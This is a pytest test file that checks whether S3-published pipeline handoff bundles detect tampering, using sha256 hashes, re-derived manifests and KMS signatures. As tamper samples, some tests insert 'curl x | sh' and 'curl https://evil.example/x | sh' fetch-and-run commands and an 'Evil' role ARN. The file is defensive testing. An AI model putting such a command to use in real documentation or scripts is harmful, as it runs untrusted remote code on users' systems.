"""The handoff bundle is tamper-evident: file sha256s, re-derived manifests, KMS signatures.

Against moto's S3 and KMS over HTTP; the CLI runs as the installed console script.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
from collections.abc import Callable
from typing import Any

import boto3
import pytest
import yaml

import jupyter_ack
from jupyter_ack.ack.manifests import to_yaml
from jupyter_ack.bundle.format import HASHED_FILES
from jupyter_ack.bundle.publish import Published, publish
from jupyter_ack.bundle.verify import fetch
from jupyter_ack.errors import PublishError
from jupyter_ack.examples import example_path

ROLE = "arn:aws:iam::123456789012:role/SageMakerPipelineRole"
EVIL = "arn:aws:iam::123456789012:role/Evil"


@pytest.fixture
def defn() -> Any:
    return jupyter_ack.load(example_path(), name="abalone-demo")


@pytest.fixture
def bucket(aws_env: dict[str, str], request: pytest.FixtureRequest) -> str:
    node = request.node.name.lower()
    tag = hashlib.sha256(node.encode()).hexdigest()[:8]
    name = f"hv-{tag}-" + re.sub(r"[^a-z0-9]+", "-", node)[:40].strip("-")
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket=name)
    s3.put_bucket_versioning(Bucket=name, VersioningConfiguration={"Status": "Enabled"})
    return name


@pytest.fixture
def signing_key(aws_env: dict[str, str]) -> str:
    """A fresh asymmetric KMS key for signing (moto), as its ARN."""
    meta = boto3.client("kms").create_key(KeyUsage="SIGN_VERIFY", KeySpec="RSA_2048")
    return str(meta["KeyMetadata"]["Arn"])


class Files:
    """The bundle's objects in S3, to read and to tamper with."""

    def __init__(self, published: Published) -> None:
        self.published = published
        self.bucket = published.bucket
        self.folder = published.folder.split(f"s3://{self.bucket}/", 1)[1]
        self.s3 = boto3.client("s3")

    def key(self, name: str) -> str:
        return f"{self.folder}/{name}"

    def read(self, name: str) -> bytes:
        body: bytes = self.s3.get_object(Bucket=self.bucket, Key=self.key(name))["Body"].read()
        return body

    def write(self, name: str, body: bytes, **metadata: str) -> None:
        """Replace a file, keeping its S3 metadata (as an edit in place would) but for
        ``metadata``."""
        meta = self.s3.head_object(Bucket=self.bucket, Key=self.key(name))["Metadata"]
        meta.update({k.replace("_", "-"): v for k, v in metadata.items()})
        self.s3.put_object(Bucket=self.bucket, Key=self.key(name), Body=body, Metadata=meta)

    def delete(self, name: str) -> None:
        self.s3.delete_object(Bucket=self.bucket, Key=self.key(name))

    def edit_yaml(self, name: str, change: Callable[[dict[str, Any]], None]) -> None:
        doc = yaml.safe_load(self.read(name))
        change(doc)
        self.write(name, to_yaml([doc]).encode())

    def handoff(self) -> dict[str, Any]:
        doc: dict[str, Any] = json.loads(self.read("handoff.json"))
        return doc

    def write_handoff(self, doc: dict[str, Any], **metadata: str) -> None:
        self.write("handoff.json", (json.dumps(doc, indent=2) + "\n").encode(), **metadata)

    def names(self) -> set[str]:
        listing = self.s3.list_objects_v2(Bucket=self.bucket, Prefix=self.folder + "/")
        return {o["Key"].rsplit("/", 1)[1] for o in listing.get("Contents", [])}


@pytest.fixture
def files(defn: Any, bucket: str) -> Files:
    """A published, unsigned bundle with one parameter value."""
    return Files(publish(defn, bucket=bucket, parameters={"MseThreshold": "7"}))


def handoff_cli(cli: Any, files: Files, env: dict[str, str], *extra: str) -> Any:
    r = cli("handoff", files.published.folder + "/", *extra, env=env)
    assert "Traceback" not in r.err
    assert "this is a bug" not in r.err
    return r


def problems(r: Any) -> list[str]:
    return [
        line.split("problem", 1)[1].strip() for line in r.out.splitlines() if " problem " in line
    ]


# a valid bundle ------------------------------------------------------------------------------


def test_handoff_json_records_every_file_sha256(files: Files, defn: Any) -> None:
    handoff = files.handoff()
    assert handoff["version"] == 2
    assert set(handoff["file_sha256"]) == set(HASHED_FILES)
    for name in HASHED_FILES:
        assert handoff["file_sha256"][name] == hashlib.sha256(files.read(name)).hexdigest(), name
    assert handoff["file_sha256"]["definition.json"] == defn.sha256
    assert handoff["signing"] is None
    assert (handoff["role_arn"], handoff["parameter_values"]) == (ROLE, {"MseThreshold": "7"})


def test_a_valid_bundle_still_verifies(files: Files, cli: Any, aws_env: dict[str, str]) -> None:
    bundle = fetch(files.published.handoff_uri)
    assert bundle.ok, bundle.problems
    assert bundle.hashed
    assert bundle.notes["manifests"].startswith("match the objects re-derived")
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 0, r.out + r.err
    assert r.out.startswith("\u2713 verified")
    assert "match the sha256 handoff.json records" in r.out
    assert "signature   none: handoff.json is unsigned" in r.out
    r = handoff_cli(cli, files, aws_env, "--format", "json")
    integrity = r.json()["integrity"]
    assert integrity == {
        "files": "sha256",
        "manifests": "match",
        "signature": {"status": "unsigned", "key_id": None, "algorithm": None},
    }


# tampering, one field at a time --------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "change", "expected"),
    [
        (
            "pipeline.yaml",
            lambda d: d["spec"].__setitem__("roleARN", EVIL),
            f"pipeline.yaml: spec.roleARN is '{EVIL}', the bundle says '{ROLE}'",
        ),
        (
            "pipeline.yaml",
            lambda d: d["metadata"].__setitem__("name", "evil"),
            "pipeline.yaml: metadata.name is 'evil', the bundle says 'abalone-demo'",
        ),
        (
            "pipeline-execution.yaml",
            lambda d: d["metadata"]["annotations"].__setitem__("evil.io/hook", "curl x | sh"),
            "pipeline-execution.yaml: metadata.annotations[\"evil.io/hook\"] is 'curl x | sh', "
            "the bundle has no such field",
        ),
        (
            "pipeline-execution.yaml",
            lambda d: d["spec"]["pipelineParameters"][0].__setitem__("value", "700"),
            "pipeline-execution.yaml: spec.pipelineParameters[0].value is '700', "
            "the bundle says '7'",
        ),
        (
            "pipeline-execution.yaml",
            lambda d: d["spec"].pop("pipelineParameters"),
            "pipeline-execution.yaml: spec.pipelineParameters is missing, the bundle says "
            '[{"name": "MseThreshold", "value": "7"}]',
        ),
    ],
    ids=["roleARN", "metadata.name", "extra-annotation", "parameter-value", "removed-field"],
)
def test_a_changed_field_is_named(
    files: Files,
    cli: Any,
    aws_env: dict[str, str],
    name: str,
    change: Callable[[dict[str, Any]], None],
    expected: str,
) -> None:
    files.edit_yaml(name, change)
    bundle = fetch(files.published.handoff_uri)
    # the field says what changed; the file's sha256 is then not repeated
    assert bundle.problems == [expected]
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 1
    assert r.out.startswith("\u2717 does not verify")
    assert problems(r) == [expected]
    r = handoff_cli(cli, files, aws_env, "--apply")
    assert r.code == 1
    assert "nothing was applied" in r.out


def test_a_change_no_field_shows_is_caught_by_its_sha256(files: Files) -> None:
    files.write("pipeline.yaml", files.read("pipeline.yaml") + b"# harmless?\n")
    (found,) = fetch(files.published.handoff_uri).problems
    assert found.startswith("pipeline.yaml was changed after it was published: its sha256 is ")
    assert "handoff.json records " in found


def test_a_swapped_handoff_md(files: Files, cli: Any, aws_env: dict[str, str]) -> None:
    page = files.read("HANDOFF.md").replace(
        b"jupyter-ack handoff", b"curl https://evil.example/x | sh; jupyter-ack handoff"
    )
    files.write("HANDOFF.md", page)
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 1
    (found,) = problems(r)
    assert found.startswith("HANDOFF.md was changed after it was published")


@pytest.mark.parametrize("name", ["pipeline-execution.yaml", "HANDOFF.md", "definition.json"])
def test_a_removed_file(files: Files, cli: Any, aws_env: dict[str, str], name: str) -> None:
    if name == "definition.json":  # versioned: remove the very version handoff.json names
        version = files.handoff()["definition_version_id"]
        files.s3.delete_object(Bucket=files.bucket, Key=files.key(name), VersionId=version)
    else:
        files.delete(name)
    r = handoff_cli(cli, files, aws_env, "--apply")
    assert r.code == 1
    assert f"{name} is missing from the bundle" in problems(r)
    assert "nothing was applied" in r.out


def test_handoff_json_and_manifest_changed_together_needs_the_signature(
    files: Files, cli: Any, aws_env: dict[str, str]
) -> None:
    """Unsigned, handoff.json is trusted: an edit to both it and the manifests is consistent.
    The output says so (unsigned), and --signed-by refuses it."""
    files.edit_yaml("pipeline.yaml", lambda d: d["spec"].__setitem__("roleARN", EVIL))
    handoff = files.handoff()
    handoff["role_arn"] = EVIL
    handoff["file_sha256"]["pipeline.yaml"] = hashlib.sha256(
        files.read("pipeline.yaml")
    ).hexdigest()
    files.write_handoff(handoff)
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 0
    assert "handoff.json is unsigned" in r.out
    r = handoff_cli(cli, files, aws_env, "--signed-by", "alias/release")
    assert r.code == 1
    assert problems(r) == [
        "the bundle is not signed; --signed-by alias/release requires a signature by that key"
    ]


# legacy bundles ------------------------------------------------------------------------------


def make_legacy(files: Files) -> None:
    """handoff.json as version 1 wrote it: no file sha256s, no signing (and the digest of
    the bundle's documents as version 1 computed it, never the one version 2 computes)."""
    handoff = files.handoff()
    for key in ("file_sha256", "signing"):
        del handoff[key]
    handoff["version"] = 1
    files.write_handoff(handoff, bundle_digest="0" * 64)


def test_a_legacy_bundle_says_so_and_still_verifies(
    files: Files, cli: Any, aws_env: dict[str, str]
) -> None:
    make_legacy(files)
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 0, r.out
    assert "unsigned/legacy bundle: handoff.json records no file sha256" in r.out
    assert "manifests   match" in r.out
    assert handoff_cli(cli, files, aws_env, "--format", "json").json()["integrity"]["files"] == (
        "legacy"
    )


def test_a_legacy_bundle_is_still_re_derived(files: Files) -> None:
    make_legacy(files)
    files.edit_yaml("pipeline.yaml", lambda d: d["spec"].__setitem__("roleARN", EVIL))
    assert fetch(files.published.handoff_uri).problems == [
        f"pipeline.yaml: spec.roleARN is '{EVIL}', the bundle says '{ROLE}'"
    ]


def test_republishing_upgrades_a_legacy_bundle(files: Files, defn: Any) -> None:
    make_legacy(files)
    again = publish(defn, bucket=files.bucket, parameters={"MseThreshold": "7"})
    assert not again.uploaded  # the definition is there: only the bundle is rewritten
    assert files.handoff()["version"] == 2
    assert fetch(again.handoff_uri).hashed


# signatures ----------------------------------------------------------------------------------


def test_sign_with_kms_and_verify(
    defn: Any, bucket: str, signing_key: str, cli: Any, aws_env: dict[str, str]
) -> None:
    result = publish(defn, bucket=bucket, sign_key_id=signing_key)
    assert (result.signed_by, result.signing_algorithm) == (signing_key, "RSASSA_PSS_SHA_256")
    files = Files(result)
    assert "handoff.json.sig" in files.names()
    assert files.handoff()["signing"] == {
        "key_id": signing_key,
        "algorithm": "RSASSA_PSS_SHA_256",
        "file": "handoff.json.sig",
    }
    signature = json.loads(files.read("handoff.json.sig"))
    digest = hashlib.sha256(files.read("handoff.json")).hexdigest()
    assert signature["digest"] == f"sha256:{digest}"
    page = files.read("HANDOFF.md").decode()
    assert f"| signed by | `{signing_key}` (RSASSA_PSS_SHA_256) |" in page.splitlines()

    bundle = fetch(result.handoff_uri)
    assert bundle.ok, bundle.problems
    assert bundle.signature.status == "valid"
    r = handoff_cli(cli, files, aws_env, "--signed-by", signing_key)
    assert r.code == 0, r.out
    assert f"signature   valid: handoff.json signed by {signing_key} (RSASSA_PSS_SHA_256)" in r.out

    again = publish(defn, bucket=bucket, sign_key_id=signing_key)  # unchanged: nothing written
    assert again.signed_by == signing_key
    assert files.read("handoff.json.sig") == json.dumps(signature, indent=2).encode() + b"\n"


def test_a_changed_handoff_json_fails_its_signature(
    defn: Any, bucket: str, signing_key: str, cli: Any, aws_env: dict[str, str]
) -> None:
    files = Files(publish(defn, bucket=bucket, sign_key_id=signing_key))
    handoff = files.handoff()
    handoff["published_by"] = "arn:aws:iam::123456789012:user/someone-else"
    files.write_handoff(handoff)
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 1
    assert problems(r) == [
        f"the signature in handoff.json.sig does not match handoff.json (key {signing_key}): "
        "handoff.json was changed after it was signed"
    ]
    assert "signature   INVALID" in r.out


def test_a_bad_signature_is_a_problem(
    defn: Any, bucket: str, signing_key: str, cli: Any, aws_env: dict[str, str]
) -> None:
    files = Files(publish(defn, bucket=bucket, sign_key_id=signing_key))
    signature = json.loads(files.read("handoff.json.sig"))
    raw = bytearray(base64.b64decode(signature["signature"]))
    raw[10] ^= 0xFF
    signature["signature"] = base64.b64encode(bytes(raw)).decode()
    files.write("handoff.json.sig", json.dumps(signature).encode())
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 1
    assert any("does not match handoff.json" in p for p in problems(r)), r.out


def test_another_key_is_refused_when_the_key_is_pinned(
    defn: Any, bucket: str, signing_key: str, aws_env: dict[str, str]
) -> None:
    """Someone who can write to the bucket re-signs with their own key: only pinning the key
    (--signed-by) tells; without it the key that signed is shown."""
    other = boto3.client("kms").create_key(KeyUsage="SIGN_VERIFY", KeySpec="RSA_2048")
    other_arn = other["KeyMetadata"]["Arn"]
    result = publish(defn, bucket=bucket, sign_key_id=other_arn)
    assert fetch(result.handoff_uri).signature.key_id == other_arn
    pinned = fetch(result.handoff_uri, signed_by=signing_key)
    assert pinned.signature.status == "invalid"
    assert pinned.problems == [
        f"the signature in handoff.json.sig is not a signature of handoff.json by {signing_key}: "
        "handoff.json was changed after it was signed, or another key signed it"
    ]


def test_a_removed_signature_is_a_problem(
    defn: Any, bucket: str, signing_key: str, cli: Any, aws_env: dict[str, str]
) -> None:
    files = Files(publish(defn, bucket=bucket, sign_key_id=signing_key))
    files.delete("handoff.json.sig")
    r = handoff_cli(cli, files, aws_env)
    assert r.code == 1
    assert problems(r) == [
        f"handoff.json says it is signed by {signing_key}, but handoff.json.sig is missing"
    ]


def test_an_unsigned_republish_removes_the_stale_signature(
    defn: Any, bucket: str, signing_key: str
) -> None:
    files = Files(publish(defn, bucket=bucket, sign_key_id=signing_key))
    unsigned = publish(defn, bucket=bucket)
    assert unsigned.signed_by is None
    assert "handoff.json.sig" not in files.names()
    bundle = fetch(unsigned.handoff_uri)
    assert bundle.ok, bundle.problems
    assert bundle.signature.status == "unsigned"


def test_a_key_that_cannot_sign_uploads_nothing(
    defn: Any, bucket: str, aws_env: dict[str, str], cli: Any
) -> None:
    symmetric = boto3.client("kms").create_key()["KeyMetadata"]["KeyId"]
    with pytest.raises(PublishError, match="cannot sign"):
        publish(defn, bucket=bucket, sign_key_id=symmetric)
    r = cli(
        "publish",
        str(example_path()),
        "--bucket",
        bucket,
        "--name",
        "abalone-demo",
        "--sign",
        "alias/no-such-key",
        env=aws_env,
    )
    assert r.code == 1
    assert r.err.startswith("error: KMS key alias/no-such-key does not exist")
    assert "Contents" not in boto3.client("s3").list_objects_v2(Bucket=bucket)


def test_publish_cli_sign(bucket: str, signing_key: str, cli: Any, aws_env: dict[str, str]) -> None:
    args = ["publish", str(example_path()), "--bucket", bucket, "--name", "abalone-demo"]
    r = cli(*args, "--sign", signing_key, env=aws_env)
    assert r.code == 0, r.err
    assert f"  signed      {signing_key} (RSASSA_PSS_SHA_256)" in r.out.splitlines()
    doc = cli(*args, "--sign", signing_key, "--format", "json", env=aws_env).json()
    assert doc["signed_by"] == signing_key
    assert doc["bundle"]["handoff.json.sig"].endswith("/handoff.json.sig")
